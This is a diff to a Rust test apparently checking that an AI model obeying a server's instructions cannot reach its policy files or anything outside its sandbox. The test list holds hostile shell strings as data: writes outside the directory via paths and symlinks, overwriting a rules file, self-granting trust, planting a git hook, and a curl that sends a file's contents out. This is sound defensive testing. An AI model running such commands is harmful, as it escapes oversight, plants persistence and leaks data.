@@ -43,7 +43,7 @@ fn a_model_that_obeys_what_a_server_says_reaches_no_policy_and_nothing_outside()
         format!("echo owned > {}", outside.join("file").display()),
         "ln -s ../outside link; echo owned > link/file".to_owned(),
         format!("printf '[]' > {}; ls {}", rules.display(), data.join("purlin").display()),
-        format!("{program} trust {}", cwd.display()),
+        format!("command {program} trust {}", cwd.display()),
         "echo id > .git/hooks/pre-commit; echo owned >> .git/config".to_owned(),
         "curl -s http://127.0.0.1:1/$(cat ../outside/file) || echo unreached".to_owned(),
     ];
